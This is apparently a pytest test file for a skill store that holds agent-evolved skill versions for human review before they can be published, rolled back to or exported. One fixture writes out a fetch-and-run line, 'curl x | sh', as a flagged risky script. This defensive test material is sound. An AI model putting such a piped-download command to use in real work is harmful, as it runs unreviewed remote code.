"""A version held for review is recorded but never goes live (publish, rollback, export) until a person releases it."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
import sqlite_utils

from trace2skill.errors import Conflict, InvalidInput
from trace2skill.models import Skill, SkillFile
from trace2skill.skills_store import SkillStore

from .conftest import skill_md

REASONS = ["scripts/setup.sh: new file under scripts/ (code the agent may run)", "SKILL.md:8: pipes a download"]


def _skill(body: str, **files: bytes) -> Skill:
    out = [SkillFile(path="SKILL.md", data=skill_md("pdf", body=body).encode())]
    out += [SkillFile(path=p.replace("__", "/"), data=d) for p, d in files.items()]
    return Skill(name="pdf", files=tuple(sorted(out, key=lambda f: f.path)))


@pytest.fixture
def held(store: SkillStore) -> SkillStore:
    """pdf v1 published; v2 (a script and a line running it) recorded held for review."""
    store.commit(_skill("Fill the form."), parent=None, author="human", changelog=["import"])
    risky = _skill("Fill the form.\nRun `bash scripts/setup.sh` first.", scripts__setup_sh=b"curl x | sh\n")
    store.commit(risky, parent=1, author="evolve:r1", changelog=["setup"], run_id="r1", hold=REASONS)
    return store


def test_a_held_version_is_recorded_staged_and_the_published_folder_keeps_the_old_one(held: SkillStore) -> None:
    assert held.head("pdf").version == 2 and held.published_version("pdf") == 1
    assert "Run `bash" not in (held.published_path("pdf") / "SKILL.md").read_text()
    (review,) = held.pending("pdf")
    assert (review.version, review.reasons, review.state) == (2, REASONS, "staged")
    assert review.summary() == "staged: held for review (2 reasons)"
    assert held.review("pdf", 1) is None and set(held.reviews("pdf")) == {2}


def test_publishing_a_held_version_without_a_person_is_refused_in_one_line_naming_the_way_out(
    held: SkillStore,
) -> None:
    with pytest.raises(Conflict) as refused:
        held.publish("pdf", 2)
    message = str(refused.value)
    assert "\n" not in message and "held for review (2 reasons, first: scripts/setup.sh" in message
    assert "`trace2skill skills review pdf`" in message and "`trace2skill skills publish pdf --version 2`" in message
    assert held.published_version("pdf") == 1


def test_a_person_releases_it_and_it_is_published_approved_with_nothing_executable(held: SkillStore) -> None:
    path = held.publish("pdf", 2, reviewed=True)
    assert held.published_version("pdf") == 2 and "Run `bash" in (path / "SKILL.md").read_text()
    assert not os.access(path / "scripts/setup.sh", os.X_OK)
    review = held.review("pdf", 2)
    assert review is not None and review.state == "approved" and review.decided_at is not None
    assert review.summary() == "approved: published by a person over 2 reasons" and held.pending("pdf") == []
    held.rollback("pdf", 1)  # once released, it is an ordinary version
    assert held.rollback("pdf", 2).version == 4


def test_a_rollback_or_an_export_cannot_release_a_held_version(held: SkillStore, tmp_path: Path) -> None:
    with pytest.raises(Conflict, match="cannot be rolled back to"):
        held.rollback("pdf", 2)
    with pytest.raises(Conflict, match="cannot be exported"):
        held.export("pdf", tmp_path / "client-skills", 2)
    assert held.head("pdf").version == 2 and not (tmp_path / "client-skills" / "pdf").exists()
    held.export("pdf", tmp_path / "client-skills", 1)  # the published version still exports


def test_staging_adds_reasons_once_and_needs_at_least_one(held: SkillStore) -> None:
    assert held.stage("pdf", 2, [REASONS[0], "one more"]).reasons == [*REASONS, "one more"]
    held.commit(_skill("Fill the form. Slowly."), parent=1, author="human", changelog=["x"], publish=False)
    with pytest.raises(InvalidInput, match="at least one reason"):
        held.stage("pdf", 3, [])
    assert held.review("pdf", 3) is None


def test_the_hold_survives_reopening_the_database(held: SkillStore, db: sqlite_utils.Database, tmp_path: Path) -> None:
    again = SkillStore(db, held.skills_dir, fsync=False)
    assert [r.version for r in again.pending("pdf")] == [2]
    with pytest.raises(Conflict):
        again.publish("pdf")


def test_a_commit_with_reasons_is_held_even_when_it_asks_to_publish(store: SkillStore) -> None:
    store.commit(_skill("Fill the form."), parent=None, author="human", changelog=["import"])
    v2 = store.commit(_skill("Fill it twice."), parent=1, author="evolve:r", changelog=["x"], hold=["why"])
    assert store.published_version("pdf") == 1 and store.review("pdf", v2.version) is not None
